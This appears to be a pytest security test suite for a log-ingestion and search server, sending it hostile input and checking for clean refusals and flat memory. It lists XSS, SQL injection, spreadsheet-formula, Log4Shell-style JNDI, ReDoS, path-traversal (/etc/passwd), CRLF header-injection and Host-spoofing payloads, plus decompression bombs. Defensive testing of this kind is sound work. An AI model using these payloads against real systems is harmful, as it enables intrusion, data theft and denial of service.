"""Bad input at every public entrance of a real node: a defined answer, the good records stored, memory flat."""

from __future__ import annotations

import base64
import contextlib
import csv
import gzip
import io
import json
import random
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest
from node_process import NodeProcess

MIB = 1 << 20
NDJSON = {"content-type": "application/x-ndjson"}
TEXT = {"content-type": "text/plain"}
SECURITY = next(
    (found for folder in Path(__file__).parents if (found := folder / "shared/data/security").is_dir()), None
)
"""A collection of hostile inputs kept beside the checkout, where there is one."""

XSS = (
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "</title><img src=x onerror=alert(1)>",
    "\x1b]0;title\x07\x1b[2J",
    "\u202egnp.exe \u2028 \ufeff",
    "${jndi:ldap://192.0.2.1/a} {{7*7}} <%= 7*7 %>",
)
FORMULAS = ("=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE logs; --",
    "') OR tenant != '' --",
    "1 UNION ALL SELECT * FROM system.users",
    "%' ESCAPE '\\",
    "\\' OR 1=1 --",
    "file('/etc/passwd')",
    "SETTINGS max_memory_usage=0",
)
PATTERNS = (
    "^(a+)+$",
    "(a|a)*$",
    "(.*a){20}",
    "(x+x+)+y",
    "^(?:(?:a?){30}a{30})$",
    "(?=(a+))a*b\\1",
    "(a{1,1000}){1,1000}",
    "[\\s\\S]{1,100000}x",
    "((((((((((a*)*)*)*)*)*)*)*)*)*)b",
    "(",
    "\\",
    "[z-a]",
    "(?P<n>a)(?P<n>b)",
)
QUERIES = (
    "\x00",
    "\ufeff\u202e😀:😀",
    '"' * 999,
    "\\" * 1001,
    ":" * 100,
    "|" * 200,
    "*" * 22 + "a",
    "(" * 30_000,
    "not " * 10_000 + "a",
    "a or " * 10_000 + "a",
    "a " * 20_000,
    "a" * 60_000,
    '"' + "a " * 15_000 + '"',
    "a" * 70_000,
    "field:[1 TO " + "1 TO " * 500,
    "user_id:(" + " or ".join(f"u{n}" for n in range(300)) + ")",
    "* | where " + "(" * 5000 + "1" + ")" * 5000,
    "* | extend a=" + "abs(" * 3000 + "1" + ")" * 3000,
    "* | " + "| ".join(["head 5 "] * 2000),
    "* | head 99999999999999999999",
    "seq:>1e999",
    "seq:99999999999999999999999",
    "* | where n/0 > 1 | stats count()",
    "* | timechart span=1ns count()",
    "level:ERROR | delete",
    "* | extend x=substring(message, -99999999999, 99999999999) | head 1",
    "msg:/" + "(a|" * 2000,
)


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NodeProcess]:
    """Gives slow senders up sooner than by default, so that the test needs no half minute."""
    limits = {"HEIMDALL_INGEST__CHUNK_TIMEOUT_S": "1.5"}
    with NodeProcess(tmp_path_factory.mktemp("hostile") / "data", environment=limits) as process:
        yield process


@pytest.fixture(scope="module")
def client(node: NodeProcess) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=node.url, timeout=60, trust_env=False) as http:
        yield http


@pytest.fixture(scope="module", autouse=True)
def warm_rss(node: NodeProcess, client: httpx.Client) -> int:
    """RSS of the node after every kind of work was done once."""
    node.send(b'{"service":"warm","message":"order 17 of user u5 took 12 ms","n":1}\n' * 20_000)
    node.wait_for_count(20_000, "service:warm")
    post(client, b"x" * (8 * MIB), TEXT)
    post(client, gzip.compress(bytes(32 * MIB)), {**NDJSON, "content-encoding": "gzip"})
    for route in ("search", "histogram", "facets", "fields"):
        ask(client, "service:warm order user", route)
    ask(client, " ".join(f"a{n}" for n in range(200)))
    ask(client, "service:warm /(.*a){20}/")
    return rss(node)


def rss(node: NodeProcess) -> int:
    return int(psutil.Process(node.pid).memory_info().rss)


def post(client: httpx.Client, body: bytes, headers: dict[str, str], **parameters: str) -> httpx.Response:
    return client.post("/api/v1/logs", content=body, headers=headers, params=parameters)


def ask(client: httpx.Client, q: str, route: str = "search", **parameters: str) -> httpx.Response:
    return client.post(f"/api/v1/{route}", json={"q": q, **parameters})


def assert_refused(answer: httpx.Response, *statuses: int) -> None:
    """A 4xx in our shape: a code, a message, the request's id."""
    assert answer.status_code in statuses, (answer.status_code, answer.text[:300])
    error = answer.json()["error"]
    assert error["code"] != "internal"
    assert len(error["message"]) > 10
    assert error["request_id"] == answer.headers["x-request-id"]


def raw(node: NodeProcess, sent: bytes, *, wait_s: float = 20) -> bytes:
    """Everything that comes back until the connection closes."""
    received = b""
    with socket.create_connection(("127.0.0.1", node.port), wait_s) as wire:
        with contextlib.suppress(ConnectionError):
            wire.sendall(sent)
        with contextlib.suppress(ConnectionError):
            while piece := wire.recv(65536):
                received += piece
    return received


def collected(category: str) -> list[str]:
    if SECURITY is None:
        return []
    rows = [json.loads(line) for line in (SECURITY / "attack_payloads.jsonl").read_text("utf-8").splitlines()]
    return [row["payload"] for row in rows if row["category"] == category]


# ---- logs in ------------------------------------------------------------------------------------------------------


@pytest.mark.skipif(SECURITY is None, reason="the collection of bombs is not here")
def test_every_bomb_of_the_collection_is_refused_or_small(client: httpx.Client) -> None:
    assert SECURITY is not None
    for bomb in json.loads((SECURITY / "decompression_bombs.json").read_text())["bombs"]:
        headers = {**TEXT, "content-encoding": bomb["content_encoding"]}
        began = time.monotonic()
        answer = post(client, base64.b64decode(bomb["body_base64"]), headers, service="bombs")
        if bomb["decoded_bytes"] > 10_000 or not bomb["decoded_bytes"] or "CRC" in bomb["name"]:
            assert_refused(answer, 400, 413, 415)
        else:
            assert answer.status_code in (200, 400, 413), bomb["name"]
        assert time.monotonic() - began < 10, bomb["name"]


@pytest.mark.parametrize("coding", ["gzip", "zstd", "deflate"])
def test_a_body_that_is_no_compression_or_is_cut_off_is_refused(client: httpx.Client, coding: str) -> None:
    for body in (b"", b"\x00", b"plain text", b"\x1f\x8b\x08", b"\x28\xb5\x2f\xfd", random.Random(1).randbytes(5000)):
        assert_refused(post(client, body, {**NDJSON, "content-encoding": coding}), 400)


def test_a_single_line_of_100_mb_is_refused_before_it_is_held(node: NodeProcess) -> None:
    head = b"POST /api/v1/logs HTTP/1.1\r\nHost: node\r\nContent-Type: text/plain\r\nConnection: close\r\n"
    before = rss(node)
    declared = raw(node, head + b"Content-Length: 100000000\r\n\r\n" + b"x" * 1000)
    assert declared.startswith(b"HTTP/1.1 413")
    chunk = b"%x\r\n" % MIB + b"x" * MIB + b"\r\n"
    streamed = raw(node, head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 100 + b"0\r\n\r\n")
    assert streamed.startswith(b"HTTP/1.1 413") or not streamed  # reset while it still sent
    assert rss(node) - before < 64 * MIB


def test_lines_too_long_or_with_odd_bytes_are_kept_and_marked_beside_good_ones(
    node: NodeProcess, client: httpx.Client
) -> None:
    odd = {
        b"long " + b"y" * (2 * MIB): "truncated",
        b"latin \xe9t\xe9": "invalid_utf8",
        b"surrogate \xed\xa0\x80": "invalid_utf8",
        b"nul \x00 inside": "nul_byte",
    }
    body = b"\n".join([b"good one", *odd, b"good two"])
    assert post(client, body, TEXT, service="odd-lines").json() == {"accepted": 6, "rejected": 0, "errors": []}
    node.wait_for_count(6, "service:odd-lines")
    assert node.count("service:odd-lines good") == 2
    for line, mark in odd.items():
        word = line.split(b" ", 1)[0].decode()
        (row,) = node.search(f"service:odd-lines message:/^{word} /", limit=1)["data"]
        assert mark in row["heimdall.oddity"], row
        assert len(row["message"]) <= MIB


def test_times_that_cannot_be_are_kept_as_fields_and_the_arrival_stands_in(
    node: NodeProcess, client: httpx.Client
) -> None:
    times = (
        "0000-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "2026-13-45T25:61:61Z",
        "1969-07-20T20:17:00Z",
        f"{time.gmtime().tm_year + 10}-01-01T00:00:00Z",
        -1,
        18446744073709551616,
        10**30,
    )
    records = [{"service": "skewed", "time": moment, "message": f"at {n}"} for n, moment in enumerate(times)]
    records.append({"service": "skewed", "time": time.time() + 3600, "message": "an hour ahead"})
    began = time.time()
    answer = post(client, b"\n".join(json.dumps(record).encode() for record in records), NDJSON)
    assert answer.json()["accepted"] == len(records)
    node.wait_for_count(len(records), "service:skewed")
    rows = node.search("service:skewed heimdall.oddity:*", limit=100, **{"from": str(began - 5), "to": "now"})["data"]
    assert sorted(row["message"] for row in rows) == [f"at {n}" for n in range(len(times))]
    assert node.count('service:skewed "an hour ahead" not heimdall.oddity:*') == 1


def test_rejected_records_of_a_body_leave_the_others_findable(node: NodeProcess, client: httpx.Client) -> None:
    deep = b'{"service":"mixed","message":"ok deep","d":' + b'{"a":' * 100 + b"1" + b"}" * 100 + b"}"
    lines = [
        b'{"service":"mixed","message":"ok one"}',
        b"{broken",
        b'{"service":"mixed","message":"' + b"z" * (2 * MIB) + b'"}',
        deep,
        b'{"service":"mixed","message":"ok large","n":[99999999999999999999,-1e400,NaN]}',
        b"[1,2]",
        b'{"service":"mixed","d":' + b"[" * 1000 + b"]" * 1000 + b"}",
        b'{"service":"mixed","message":"ok last"}',
    ]
    answer = post(client, b"\n".join(lines), NDJSON).json()
    node.wait_for_count(answer["accepted"], "service:mixed")
    assert node.count("service:mixed ok") == 4
    assert {error["line"] for error in answer["errors"]} <= {2, 3, 5, 6, 7}
    assert {2, 3, 6, 7} <= {error["line"] for error in answer["errors"]}
    assert all(error["reason"] and len(error["excerpt"]) < 1000 for error in answer["errors"])


@pytest.mark.parametrize(
    ("headers", "statuses"),
    [
        ({"content-type": "image/png"}, (415,)),
        ({"content-type": "application/xml"}, (415,)),
        ({"content-type": "multipart/form-data; boundary=x"}, (415,)),
        ({"content-type": "x" * 5000}, (415,)),
        ({"content-type": "application/json", "content-encoding": "br"}, (415,)),
        ({"content-type": "application/json", "content-encoding": "gzip, gzip"}, (415,)),
        ({"content-type": "application/json", "idempotency-key": "no key"}, (400,)),
    ],
)
def test_a_type_or_coding_that_is_not_taken_is_named(
    client: httpx.Client, headers: dict[str, str], statuses: tuple[int, ...]
) -> None:
    assert_refused(post(client, b'{"message":"x"}', headers), *statuses)


def test_json_called_text_and_text_called_json_are_each_answered(node: NodeProcess, client: httpx.Client) -> None:
    assert post(client, b'{"level":"info","msg":"as text"}', TEXT, service="mistyped").status_code == 200
    assert_refused(post(client, b"just text\nand more", {"content-type": "application/json"}), 400)
    node.wait_for_count(1, "service:mistyped")


def test_silent_and_half_open_senders_are_given_up(node: NodeProcess, client: httpx.Client) -> None:
    head = b"POST /api/v1/logs HTTP/1.1\r\nHost: node\r\nContent-Type: text/plain\r\nContent-Length: 1000\r\n\r\n"
    with contextlib.ExitStack() as open_ones:
        silent = [open_ones.enter_context(socket.create_connection(("127.0.0.1", node.port), 20)) for _ in range(20)]
        for wire in silent[:10]:
            wire.sendall(head + b"half a line")
        for wire in silent[10:15]:
            wire.sendall(head[:40])  # half a head
        assert client.get("/readyz").status_code == 200
        for wire in silent[:10]:
            answer = b""
            while not answer.endswith(b"}}") and (piece := wire.recv(65536)):
                answer += piece
            assert answer.startswith(b"HTTP/1.1 408"), answer
            assert b"send the body in one go" in answer
    assert node.count('"half a line"') == 0


# ---- questions ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("route", ["search", "histogram", "facets", "fields", "explain", "complete", "parse"])
def test_query_text_of_any_kind_is_answered_or_refused(client: httpx.Client, route: str) -> None:
    texts = [*QUERIES, *INJECTIONS, *XSS, *collected("search_dsl"), *collected("sql_injection")]
    if route in ("histogram", "facets", "fields"):  # ask the engine what search has asked it already
        texts = texts[::5]
    stored = client.get("/api/v1/node").json()["records"]
    for q in texts:
        began = time.monotonic()
        answer = ask(client, q, route)
        if answer.status_code != 200:
            assert_refused(answer, 400)
            if answer.json()["error"]["code"] == "query_syntax":
                assert 1 <= answer.json()["error"]["column"] <= len(q) + 1
        assert time.monotonic() - began < 20, q[:80]
    assert client.get("/api/v1/node").json()["records"] >= stored


def test_query_strings_of_any_bytes_are_answered_or_refused(node: NodeProcess) -> None:
    chance = random.Random(7)
    texts = [bytes([byte]) * 3 for byte in range(256)] + [chance.randbytes(chance.randint(1, 200)) for _ in range(60)]
    for place, text in enumerate(texts):
        route = ("parse", "complete", "search")[place % 8 % 3 if place % 8 < 3 else 0]
        quoted = "".join(f"%{byte:02x}" for byte in text)
        answer = raw(
            node, f"GET /api/v1/{route}?q={quoted} HTTP/1.1\r\nHost: node\r\nConnection: close\r\n\r\n".encode()
        )
        assert answer.split(b" ", 2)[1] in (b"200", b"400"), (text, answer[:300])


def test_evil_patterns_take_linear_time(node: NodeProcess, client: httpx.Client) -> None:
    lines = b"\n".join(b'{"service":"patterned","message":"' + b"a" * 30_000 + b'!%d"}' % n for n in range(20))
    node.send(lines)
    node.wait_for_count(20, "service:patterned")
    for pattern in [*PATTERNS, *(text for text in collected("redos") if "/" not in text)]:
        quoted = pattern.replace("\\", "\\\\").replace('"', '\\"')
        for q in (
            f"service:patterned message:/{pattern}/ | stats count()",
            f'service:patterned | where matches(message, "{quoted}") | stats count()',
        ):
            began = time.monotonic()
            answer = ask(client, q)
            if answer.status_code != 200:
                assert_refused(answer, 400)
            assert time.monotonic() - began < 10, q


@pytest.mark.parametrize(
    ("route", "parameters"),
    [
        ("search", {"limit": "0"}),
        ("search", {"limit": "1e9"}),
        ("search", {"rank": "99999999999999999999999"}),
        ("search", {"rank": "-1"}),
        ("search", {"cursor": "\x00" * 100}),
        ("search", {"cursor": "A" * 5000}),
        ("search", {"from": "9" * 400}),
        ("search", {"from": "0000-01-01T00:00:00Z"}),
        ("search", {"to": "9999-12-31T23:59:59Z"}),
        ("search", {"from": "now", "to": "-5m"}),
        ("search", {"query_id": "a\r\nX-Injected: 1"}),
        ("search", {"timeout_s": "nan"}),
        ("search", {"unknown\x00": "1"}),
        ("histogram", {"interval": "0s"}),
        ("histogram", {"interval": "99999999999999999999w"}),
        ("histogram", {"interval": "1ms", "from": "0", "to": "now"}),
        ("histogram", {"buckets": "1000000"}),
        ("facets", {"fields": ",".join(f"f{n}" for n in range(5000))}),
        ("complete", {"cursor": "-1"}),
        ("deadletters", {"limit": "99999999999999999999"}),
        ("deadletters/99999999999999999999", {}),
        ("deadletters/x", {}),
        ("ledger", {"from": "x"}),
        ("tail", {"q": "((("}),
    ],
)
def test_parameters_out_of_bounds_are_refused_by_name(
    client: httpx.Client, route: str, parameters: dict[str, str]
) -> None:
    answer = client.get(f"/api/v1/{route}", params=parameters)
    assert_refused(answer, 400)
    assert "x-injected" not in answer.headers


def test_a_range_before_all_time_is_answered(client: httpx.Client) -> None:
    answer = client.get("/api/v1/histogram", params={"q": "*", "from": "-1000000d", "buckets": "2000"})
    assert answer.status_code == 200, answer.text
    reader = client.get("/api/v1/ledger", params={"from": "-1000000d"})
    assert reader.status_code == 200


@pytest.mark.parametrize(
    ("body", "statuses"),
    [
        (b"", (400,)),
        (b"{", (400,)),
        (b"[]", (400,)),
        (b'{"q":1}', (400,)),
        (b'{"q":"\xff"}', (400,)),
        (b'{"q":"\\ud800"}', (400,)),
        (b"[" * 100_000, (400,)),
        (b'{"q":"*","limit":1e400}', (400,)),
        (b'{"q":"*","from":{"a":1}}', (400,)),
        (b'{"q":"*","__proto__":{"admin":true}}', (400,)),
        (b'{"q":"' + b"a " * (5 * MIB) + b'"}', (413,)),
    ],
)
def test_bodies_of_questions_are_refused_with_what_to_send(
    client: httpx.Client, body: bytes, statuses: tuple[int, ...]
) -> None:
    answer = client.post("/api/v1/search", content=body, headers={"content-type": "application/json"})
    assert_refused(answer, *statuses)


# ---- pages, headers, what comes back ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/../../etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/assets/../../errors.py",
        "/assets/..%5c..%5cerrors.py",
        "/assets/%00.js",
        "/....//....//etc/passwd",
        "/%c0%ae%c0%ae/etc/passwd",
        "//etc/passwd",
        "/proc/self/environ",
        "/C:%5cwindows%5cwin.ini",
        "/api/v1/deadletters/..%2f..%2fetc%2fpasswd",
        "/~root/",
        "/static_files.py",
    ],
)
def test_no_path_leaves_the_pages(node: NodeProcess, path: str) -> None:
    answer = raw(node, f"GET {path} HTTP/1.1\r\nHost: node\r\nConnection: close\r\n\r\n".encode())
    assert answer.split(b" ", 2)[1] in (b"400", b"404"), answer[:300]
    assert b"root:" not in answer
    assert b"import" not in answer


def test_nothing_a_caller_says_becomes_a_header_or_a_link(node: NodeProcess) -> None:
    answer = raw(
        node,
        b"GET /api/v1/queries/%0d%0aX-Injected:1?q=%0d%0aX-Injected:%201 HTTP/1.1\r\nHost: evil.example\r\n"
        b"X-Request-Id: a\r\nX-Forwarded-Host: evil.example\r\nConnection: close\r\n\r\n",
    )
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b"x-injected" not in head.lower()
    assert b"evil.example" not in answer
    assert b"x-request-id: a\r\n" not in head.lower() + b"\r\n"
    assert json.loads(body)["error"]["code"]
    described = raw(node, b"GET /api/v1/node HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
    assert b"evil.example" not in described


def test_text_made_for_browsers_terminals_and_spreadsheets_comes_back_as_data(
    node: NodeProcess, client: httpx.Client
) -> None:
    texts = [*XSS, *FORMULAS, *INJECTIONS, *collected("xss_in_logs"), *collected("log_injection")]
    texts = list(dict.fromkeys(text for text in texts if not text.startswith("{")))
    records = [
        {"service": "payloads", "seq": n, "message": text, "note": {"k": text}, "=1+1": n}
        for n, text in enumerate(texts)
    ]
    answer = post(client, b"\n".join(json.dumps(record).encode() for record in records), NDJSON)
    assert answer.json()["accepted"] == len(texts)
    node.wait_for_count(len(texts), "service:payloads")

    parameters = {"q": "service:payloads | sort seq | fields seq, message, note.k, `=1+1`", "limit": "1000"}
    found = client.get("/api/v1/search", params=parameters)
    assert found.headers["content-type"] == "application/json"
    assert found.headers["x-content-type-options"] == "nosniff"
    rows: list[dict[str, Any]] = found.json()["data"]
    assert [row["message"] for row in rows] == texts
    assert [row["note.k"] for row in rows] == texts

    lines = client.get("/api/v1/search", params=parameters, headers={"accept": "application/x-ndjson"}).text
    assert [json.loads(line)["message"] for line in lines.rstrip("\n").split("\n")] == texts

    table = client.get("/api/v1/search", params=parameters, headers={"accept": "text/csv"})
    cells = list(csv.DictReader(io.StringIO(table.content.decode(), newline="")))
    assert list(cells[0]) == ["seq", "message", "note.k", "'=1+1"]
    assert len(cells) == len(texts)
    for cell, text in zip(cells, texts, strict=True):
        assert cell["message"] in (text, "'" + text)
        assert cell["message"][:1] not in ("=", "+", "-", "@", "\t", "\r")


# ---- afterwards ---------------------------------------------------------------------------------------------------


def test_after_all_this_memory_is_flat_and_the_node_takes_and_answers(
    node: NodeProcess, client: httpx.Client, warm_rss: int
) -> None:
    grown = rss(node) - warm_rss
    assert grown < 64 * MIB, f"{grown / MIB:.0f} MiB more than after warm-up"
    assert client.get("/readyz").status_code == 200
    node.send(b'{"service":"afterwards","message":"still here"}\n')
    node.wait_for_count(1, "service:afterwards")
    ledger = client.get("/api/v1/ledger").json()["data"]
    assert all(row["balanced"] for row in ledger)
    assert client.get("/api/v1/deadletters").json()["data"] == []
    assert "Traceback" not in node.tail_of_log(100_000), node.tail_of_log()
